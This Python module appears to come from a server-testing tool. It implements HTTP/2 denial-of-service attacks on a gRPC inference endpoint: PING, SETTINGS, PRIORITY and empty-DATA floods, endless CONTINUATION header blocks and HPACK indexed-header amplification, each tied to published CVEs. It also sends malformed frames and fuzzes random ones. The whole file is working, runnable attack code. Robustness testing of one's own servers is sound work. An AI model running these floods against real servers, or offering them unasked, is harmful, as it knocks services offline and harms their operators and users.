"""Frames of HTTP/2 without end, or that the protocol does not allow."""

import itertools
import random
import struct
import time

from ..attack import Strike, attack
from ..http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2Connection,
    call_headers,
    frame,
    grpc_message,
    literal,
)
from .noting import note_frames

__all__ = ["ATTACKS"]

_FLOODS = "floods of frames"
_WRONG = "frames that are wrong"

_AT_ONCE = 1000


def _flood(
    strike: Strike, frames: bytes, before: bytes = b"", *, count: int | None = None, reads: bool = False
) -> None:
    """Send the same frames again and again, on one connection, without reading what comes back."""
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        connection.send(before, strike.until)
        for _ in itertools.count() if count is None else range(count):
            if not connection.send(frames, strike.until, reads=reads):
                break
        note_frames(strike.answers, connection)


@attack(_FLOODS)
def unread_pings(strike: Strike) -> None:
    """50,000 PINGs, 850 kB, whose answers are left unread (CVE-2019-9512)."""
    _flood(strike, frame(PING, payload=bytes(8)) * _AT_ONCE, count=50)


@attack(_FLOODS)
def pings(strike: Strike) -> None:
    """PINGs without end, whose answers are read."""
    _flood(strike, frame(PING, payload=bytes(8)) * _AT_ONCE, reads=True)


@attack(_FLOODS)
def settings(strike: Strike) -> None:
    """50,000 SETTINGS, whose acknowledgements are left unread (CVE-2019-9515)."""
    _flood(strike, frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) * _AT_ONCE, count=50)


@attack(_FLOODS)
def settings_and_windows(strike: Strike) -> None:
    """SETTINGS that open and close the window of 100 streams in turn."""
    block = call_headers(strike.target.path("ModelInfer"))
    opened = b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 200, 2))
    changed = b"".join(frame(SETTINGS, payload=struct.pack(">HI", 4, size)) for size in (0, 2**31 - 1))
    _flood(strike, changed * 100, opened, reads=True)


@attack(_FLOODS)
def continuations(strike: Strike) -> None:
    """A header block that goes on for ever, of small and of empty CONTINUATIONs (CVE-2024-27316)."""
    started = frame(HEADERS, 0, 1, call_headers(strike.target.path("ModelInfer")))
    _flood(strike, frame(CONTINUATION, 0, 1, literal("x-key", "y" * 100)) * 100, started, reads=True)
    _flood(strike, frame(CONTINUATION, 0, 1) * _AT_ONCE, started, reads=True)


@attack(_FLOODS)
def empty_data_frames(strike: Strike) -> None:
    """Frames of data without a byte, on one call, without end (CVE-2019-9518)."""
    opened = frame(HEADERS, END_HEADERS, 1, call_headers(strike.target.path("ModelInfer")))
    _flood(strike, frame(DATA, 0, 1) * _AT_ONCE, opened, reads=True)


@attack(_FLOODS)
def priorities(strike: Strike) -> None:
    """PRIORITY frames that make streams depend on one another, without end (CVE-2019-9513)."""
    frames = b"".join(
        frame(PRIORITY, 0, stream, struct.pack(">IB", (stream + 2) % 200 | 1, 16)) for stream in range(1, 200, 2)
    )
    _flood(strike, frames * 10, reads=True)


@attack(_FLOODS)
def indexed_headers(strike: Strike) -> None:
    """A header field of 4 kB, indexed once, that each call refers to 15,000 times: 60 MB of headers of 15 kB."""
    indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
    path = strike.target.path("ModelInfer")
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, call_headers(path) + indexed), strike.until)
        for stream in range(3, 400, 2):
            block = call_headers(path) + b"\xbe" * 15_000
            if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block), strike.until):
                break
        note_frames(strike.answers, connection)


@attack(_FLOODS)
def indexed_headers_of_open_calls(strike: Strike) -> None:
    """1,000 such references in each of 400 calls whose message never comes: what is kept of a call is kept until then.

    4 MB a call: gRPC's core has a limit of 16 MB until a client acknowledges its settings, which none has to.
    """
    indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
    block = call_headers(strike.target.path("ModelInfer"))
    calls = [block + indexed, *[block + b"\xbe" * 1_000] * 399]
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        for number, headers in enumerate(calls):
            if not connection.send(frame(HEADERS, END_HEADERS, 2 * number + 1, headers), strike.until):
                break
        time.sleep(strike.left())
        note_frames(strike.answers, connection)


@attack(_FLOODS)
def indexed_continuations(strike: Strike) -> None:
    """Calls with 100,000 references each to a header field of one byte, over CONTINUATIONs: 100 kB a call."""
    indexed = b"\x40" + literal("x", "")[1:]
    block = call_headers(strike.target.path("ModelInfer"))
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block + indexed), strike.until)
        for stream in range(3, 60, 2):
            more = [frame(CONTINUATION, END_HEADERS * (at == 5), stream, b"\xbe" * 16_000) for at in range(6)]
            frames = frame(HEADERS, END_STREAM, stream, block + b"\xbe" * 4_000) + b"".join(more)
            if not connection.send(frames, strike.until):
                break
        note_frames(strike.answers, connection)


@attack(_WRONG)
def wrong_frames(strike: Strike) -> None:
    """Each kind of frame with a size, a stream or a flag that it may not have."""
    call = frame(HEADERS, END_HEADERS, 1, call_headers(strike.target.path("ModelInfer")))
    valid = frame(DATA, END_STREAM, 1, grpc_message(strike.target.valid))
    wrong = [
        frame(DATA, 0, 0, b"x"), frame(DATA, 0, 1, b"x"), frame(DATA, 8, 1, b"\xff"), frame(HEADERS, 4, 2, b"\x82"),
        frame(HEADERS, 4, 1, b"\xff\xff\xff\xff\xff\x0f"), frame(HEADERS, 4 | 8, 1, b"\xff"), frame(HEADERS, 4, 0),
        frame(PRIORITY, 0, 1, b"x"), frame(RST_STREAM, 0, 1, b"x"), frame(RST_STREAM, 0, 0, bytes(4)),
        frame(SETTINGS, 0, 0, b"x"), frame(SETTINGS, ACK, 0, b"x" * 6), frame(SETTINGS, 0, 1),
        frame(SETTINGS, payload=struct.pack(">HI", 4, 2**32 - 1)), frame(SETTINGS, payload=struct.pack(">HI", 5, 1)),
        frame(PING, 0, 0, b"x"), frame(PING, 0, 1, bytes(8)), frame(GOAWAY, 0, 0, b"x"), frame(5, 4, 1, bytes(4)),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2,
        call + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 2**31 - 1)) * 2, frame(CONTINUATION, 4, 1, b"x"),
        call + call, call + valid + valid, frame(99, 255, 2**31 - 1, bytes(1000)), b"\xff" * 9,
        b"\xff\xff\xff" + bytes(6),
        call + frame(DATA, 0, 1, bytes(16_385)), frame(GOAWAY, 0, 0, bytes(8)) + call + valid,
    ]  # fmt: skip
    for data in wrong:
        if not strike.left():
            return
        with Http2Connection(strike.target.host, strike.target.port) as connection:
            connection.send(data, strike.until)
            note_frames(strike.answers, connection, calls=1)


@attack(_WRONG)
def random_frames(strike: Strike) -> None:
    """Frames of any kind, flags, stream and payload, on a new connection whenever one is closed."""
    chance = random.Random(3)
    call = frame(HEADERS, END_HEADERS, 1, call_headers(strike.target.path("ModelInfer")))
    while strike.left():
        with Http2Connection(strike.target.host, strike.target.port) as connection:
            connection.send(call, strike.until)
            for _ in range(50):
                payload = chance.randbytes(chance.choice((0, 1, 4, 5, 6, 8, 9, 100)))
                stream = chance.choice((0, 1, 1, 2, 3, 2**31 - 1))
                if not connection.send(
                    frame(chance.randrange(11), chance.randrange(256), stream, payload), strike.until
                ):
                    break
            strike.answers.note("SENT")
            for found in connection.read(time.monotonic() + 0.05):
                if found.kind == GOAWAY:
                    strike.answers.note(f"GOAWAY {found.error}")


ATTACKS = (
    unread_pings, pings, settings, settings_and_windows, continuations, empty_data_frames, priorities, indexed_headers,
    indexed_headers_of_open_calls, indexed_continuations, wrong_frames, random_frames,
)  # fmt: skip
